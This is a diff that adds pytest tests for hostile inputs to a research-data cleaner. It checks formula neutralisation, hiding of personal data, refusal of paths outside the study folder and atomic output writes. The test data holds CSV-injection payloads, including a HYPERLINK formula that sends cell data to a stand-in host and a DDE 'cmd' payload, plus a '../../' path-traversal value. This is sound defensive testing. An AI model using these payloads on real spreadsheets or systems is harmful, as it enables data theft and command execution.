@@ -383,3 +383,220 @@ def test_renamed_column_is_named_not_silently_lost(tmp_path, capsys, monkeypatch
     assert "staff_no" in ops_entry["ignored_columns"]
     assert "operations.csv has no column for 'employee_id'" in (out / "cleaning_report.md").read_text()
     assert pd.read_parquet(out / "encounters.parquet")["employee"].isna().all()
+
+
+# --- hostile inputs (issue 9): the cleaner's side ----------------------------------------------------
+BORIS_HEADER = ("Observation id\tObservation date\tDescription\tObservation type\tSource\tTime offset (s)\t"
+                "Coding duration\tMedia duration (s)\tFPS (frame/s)\tSubject\tObservation duration by subject by "
+                "observation\tBehavior\tBehavioral category\tModifier #1\tBehavior type\tStart (s)\tStop (s)\t"
+                "Duration (s)\tMedia file name\tImage index start\tImage index stop\tImage file path start\t"
+                "Image file path stop\tComment start\tComment stop")
+
+
+def _boris_row(obs, behaviour, kind, start, stop):
+    dur = "NA" if kind == "POINT" else f"{stop - start:.3f}"
+    return "\t".join([obs, "2026-03-02 10:00:00", "", "Media file", "player #1:x.mp4", "0.000", "60.000", "60.000",
+                      "25.00", "employee", "60.000", behaviour, "", "", kind, f"{start:.3f}", f"{stop:.3f}", dur,
+                      "x.mp4", "0", "0", "NA", "NA", "", ""])
+
+
+def _with_boris(raw, rows):
+    (raw / "video.tsv").write_text("\n".join([BORIS_HEADER] + rows) + "\n", encoding="utf-8")
+    spec = yaml.safe_load((raw / "study.yaml").read_text())
+    spec["files"].append({"path": "video.tsv", "kind": "boris"})
+    (raw / "study.yaml").write_text(yaml.safe_dump(spec))
+
+
+def _all_output_text(out) -> str:
+    text = ""
+    for p in sorted(out.iterdir()):
+        if p.suffix == ".parquet":
+            text += pd.read_parquet(p).astype(str).to_csv()
+        else:
+            text += p.read_text(encoding="utf-8")
+    return text
+
+
+@pytest.mark.parametrize("cell", ['=HYPERLINK("http://x.example/?d="&B2,"open")', "+cmd|' /C calc'!A0",
+                                  "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"])
+def test_formula_prefixes_neutralised_in_quarantine(tmp_path, capsys, monkeypatch, cell):
+    coding = CODING.replace("ENC-000001,A,yes,yes", f'ENC-000001,A,"{cell}",yes'.replace('"', '""', 0), 1)
+    raw = make_study(tmp_path, coding=coding.replace(f',"{cell}",', ",\"" + cell.replace('"', '""') + "\","))
+    code, out, cap = run_clean(tmp_path, raw, capsys, monkeypatch)
+    assert code == 0, cap.err
+    for line in (out / "quarantine.csv").read_text(encoding="utf-8").splitlines()[1:]:
+        for field in line.split(","):
+            assert not field.lstrip('"').startswith(("=", "+", "-", "@", "\t", "\r")), line
+    q = pd.read_csv(out / "quarantine.csv", dtype=str, keep_default_na=False)
+    value = q.loc[(q["reason"] == "unknown_code") & (q["column"] == "eye_contact"), "value"].iat[0]
+    # a short numeric-looking code stays visible behind an apostrophe; anything else is hidden
+    assert value == "'-2+3" if cell == "-2+3" else value.startswith("<hidden h_")
+
+
+def test_formula_prefix_in_a_file_name_neutralised(tmp_path, capsys, monkeypatch):
+    raw = make_study(tmp_path, coding=CODING.replace("ENC-000003,A,no,K", "ENC-000003,A,no,maybe"))
+    (raw / "coding_A.csv").rename(raw / "=cmd.csv")
+    spec = yaml.safe_load((raw / "study.yaml").read_text())
+    spec["files"][1]["path"] = "=cmd.csv"
+    (raw / "study.yaml").write_text(yaml.safe_dump(spec))
+    q, _ = expect_quarantine(tmp_path, capsys, monkeypatch, raw, file="'=cmd.csv", row=4, column="greeting",
+                             reason="unknown_code")
+
+
+@pytest.mark.parametrize("typed", ["Matti Virtanen", "131052-308T", "matti.virtanen@example.fi", "040 123 4567",
+                                   "x" * 300])
+def test_personal_data_in_a_scored_column_never_shown(tmp_path, capsys, monkeypatch, typed):
+    raw = make_study(tmp_path, coding=CODING.replace("ENC-000003,A,no,K", f"ENC-000003,A,no,{typed}"))
+    q, _ = expect_quarantine(tmp_path, capsys, monkeypatch, raw, file="coding_A.csv", row=4, column="greeting",
+                             reason="unknown_code")
+    value = q.loc[(q["row"] == "4") & (q["column"] == "greeting"), "value"].iat[0]
+    assert value.startswith("<hidden h_") and typed not in _all_output_text(tmp_path / "processed")
+
+
+def test_short_codes_stay_visible_in_quarantine(tmp_path, capsys, monkeypatch):
+    raw = make_study(tmp_path, coding=CODING.replace("ENC-000003,A,no,K", "ENC-000003,A,no,yes?"))
+    q, _ = expect_quarantine(tmp_path, capsys, monkeypatch, raw, file="coding_A.csv", row=4, column="greeting",
+                             reason="unknown_code")
+    assert q.loc[(q["row"] == "4") & (q["column"] == "greeting"), "value"].iat[0] == "yes?"
+
+
+def test_name_as_boris_observation_id_hidden(tmp_path, capsys, monkeypatch):
+    raw = make_study(tmp_path)
+    _with_boris(raw, [_boris_row("ENC-000001", "greeting", "POINT", 1.0, 1.0),
+                      _boris_row("Liisa Laine", "greeting", "POINT", 1.0, 1.0)])
+    q, _ = expect_quarantine(tmp_path, capsys, monkeypatch, raw, file="video.tsv", row=3, column="observation_id",
+                             reason="invalid_id")
+    assert "Liisa" not in _all_output_text(tmp_path / "processed")
+
+
+def test_coder_name_and_email_hidden_in_coding_long(tmp_path, capsys, monkeypatch):
+    coder = "Maija Meikäläinen <maija@example.fi>"
+    raw = make_study(tmp_path, coding=CODING.replace("ENC-000002,A,", f'ENC-000002,"{coder}",'))
+    code, out, cap = run_clean(tmp_path, raw, capsys, monkeypatch)
+    assert code == 0, cap.err
+    long_ = pd.read_parquet(out / "coding_long.parquet")
+    assert set(long_["coder"]) == {"A", next(c for c in long_["coder"] if c != "A")}
+    assert any(c.startswith("<hidden h_") for c in long_["coder"])
+    text = _all_output_text(out)
+    assert "Maija" not in text and "maija@example.fi" not in text
+
+
+def test_mis_pasted_header_hidden_in_the_report(tmp_path, capsys, monkeypatch):
+    raw = make_study(tmp_path, survey=SURVEY.replace("open_feedback", "liisa.laine@example.fi"))
+    code, out, cap = run_clean(tmp_path, raw, capsys, monkeypatch)
+    assert code == 0, cap.err
+    assert "liisa.laine" not in _all_output_text(out)
+    import json
+
+    survey = next(e for e in json.loads((out / "cleaning_report.json").read_text())["files"] if e["kind"] == "survey")
+    assert len(survey["ignored_columns"]) == 1 and survey["ignored_columns"][0].startswith("<hidden h_")
+
+
+def test_phone_like_value_in_a_conflicting_duplicate_does_not_abort(tmp_path, capsys, monkeypatch):
+    # the second coding of encounter 1 by coder A has a phone number where a code belongs: both
+    # copies are quarantined, the run finishes (no RuntimeError) and the number is nowhere
+    coding = CODING + "ENC-000001,A,yes,040 765 4321,genuine,yes,yes,,,,no,no,no,,\n"
+    raw = make_study(tmp_path, coding=coding)
+    q, _ = expect_quarantine(tmp_path, capsys, monkeypatch, raw, file="coding_A.csv", row=5, column="greeting",
+                             reason="duplicate_conflict")
+    assert "765 4321" not in _all_output_text(tmp_path / "processed")
+
+
+@pytest.mark.parametrize("option,value", [("sheet", 2), ("header_row", "2"), ("header_row", 0), ("sep", "::"),
+                                          ("encoding", 8), ("decimal", ";")])
+def test_bad_read_options_are_one_line(tmp_path, capsys, monkeypatch, option, value):
+    raw = make_study(tmp_path)
+    spec = yaml.safe_load((raw / "study.yaml").read_text())
+    spec["files"][1][option] = value
+    (raw / "study.yaml").write_text(yaml.safe_dump(spec))
+    expect_error(tmp_path, capsys, monkeypatch, raw, names=["study.yaml", option, "coding_A.csv"])
+
+
+@pytest.mark.parametrize("where", ["dotdot", "absolute", "symlink", "codebook"])
+def test_nothing_outside_the_study_folder_is_read(tmp_path, capsys, monkeypatch, where):
+    raw = make_study(tmp_path / "study")
+    outside = tmp_path / "secret.csv"
+    outside.write_text(SURVEY.replace("hyvä", "SECRET-CONTENT"), encoding="utf-8")
+    spec = yaml.safe_load((raw / "study.yaml").read_text())
+    if where == "dotdot":
+        spec["files"][2]["path"] = "../../secret.csv"
+    elif where == "absolute":
+        spec["files"][2]["path"] = str(outside)
+    elif where == "symlink":
+        (raw / "survey.csv").unlink()
+        (raw / "survey.csv").symlink_to(outside)
+    else:
+        shutil.copy(raw / "codebook.yaml", tmp_path / "codebook.yaml")
+        spec["codebook"] = "../../codebook.yaml"
+    (raw / "study.yaml").write_text(yaml.safe_dump(spec))
+    line = expect_error(tmp_path, capsys, monkeypatch, raw, names=["study.yaml"])
+    assert "outside the study folder" in line or "absolute path" in line
+
+
+def test_same_file_listed_twice_under_two_spellings(tmp_path, capsys, monkeypatch):
+    raw = make_study(tmp_path)
+    spec = yaml.safe_load((raw / "study.yaml").read_text())
+    spec["files"].append({"path": "./survey.csv", "kind": "survey"})
+    (raw / "study.yaml").write_text(yaml.safe_dump(spec))
+    expect_error(tmp_path, capsys, monkeypatch, raw, names=["study.yaml", "survey.csv", "twice"])
+
+
+def test_two_columns_for_one_variable_are_named_not_picked(tmp_path, capsys, monkeypatch):
+    # an empty wait_min beside a filled Wait-Min: which one holds the data is not guessed
+    ops = OPS.replace("wait_min,", "wait_min,Wait-Min,", 1)
+    ops = "\n".join(line if i == 0 or not line else line.replace(",1.5,", ",,1.5,").replace(',"3,5",', ',,"3,5",')
+                    .replace(",0,no,no,90", ",,0,no,no,90") for i, line in enumerate(ops.split("\n")))
+    raw = make_study(tmp_path, ops=ops)
+    expect_error(tmp_path, capsys, monkeypatch, raw, names=["operations.csv", "wait_min", "Wait-Min"])
+
+
+def test_behaviour_coded_as_state_and_point_is_one_line(tmp_path, capsys, monkeypatch):
+    raw = make_study(tmp_path)
+    _with_boris(raw, [_boris_row("ENC-000001", "smile", "STATE", 1.0, 3.0),
+                      _boris_row("ENC-000002", "smile", "POINT", 2.0, 2.0)])
+    expect_error(tmp_path, capsys, monkeypatch, raw, names=["video.tsv", "smile", "STATE", "POINT"])
+
+
+def test_output_set_is_swapped_in_whole_and_stale_temp_folders_go(tmp_path, capsys, monkeypatch):
+    import json
+    import hashlib
+
+    raw = make_study(tmp_path)
+    stale = tmp_path / ".processed.tmp-999999999-abc"   # a run killed long ago (no such process)
+    stale.mkdir()
+    (stale / "encounters.parquet").write_text("half-written")
+    code, out, cap = run_clean(tmp_path, raw, capsys, monkeypatch)
+    assert code == 0, cap.err
+    assert not stale.exists()
+    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".processed")) == []
+    package = json.loads((out / "datapackage.json").read_text())
+    for r in package["resources"]:
+        assert r["hash"] == "sha256:" + hashlib.sha256((out / r["path"]).read_bytes()).hexdigest()
+    # outputs and the folder follow the umask (not mkdtemp's private 0700)
+    assert (out.stat().st_mode & 0o077) == (0o777 & ~_umask()) & 0o077
+
+
+def _umask() -> int:
+    import os
+
+    mask = os.umask(0)
+    os.umask(mask)
+    return mask
+
+
+def test_read_only_parent_is_one_line_naming_the_output(tmp_path, capsys, monkeypatch):
+    import os
+
+    if os.geteuid() == 0:
+        pytest.skip("root writes into read-only folders; the check needs a normal user")
+    raw = make_study(tmp_path)
+    locked = tmp_path / "locked"
+    locked.mkdir()
+    locked.chmod(0o555)
+    try:
+        monkeypatch.setenv("SVCRESEARCH_KEY", "test-key-0123456789")
+        code = cli.main(["clean", "--raw", str(raw), "--out", str(locked / "processed"), "--quiet"])
+        err = capsys.readouterr().err.strip().splitlines()
+        assert code == 2 and len(err) == 1 and "locked/processed" in err[0] and "tmp" not in err[0]
+    finally:
+        locked.chmod(0o755)
